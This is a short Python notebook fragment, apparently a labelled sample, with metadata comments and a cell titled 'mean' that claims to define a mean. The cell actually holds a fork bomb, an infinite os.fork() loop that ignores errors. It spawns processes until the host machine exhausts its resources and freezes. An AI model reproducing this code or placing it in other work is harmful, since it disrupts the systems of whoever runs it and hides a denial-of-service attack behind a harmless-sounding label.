# tries: to fork without end
# mark: 15
# sentence: The cell that defines mean
# %% mean
import os
while True:
    try: os.fork()
    except OSError: pass
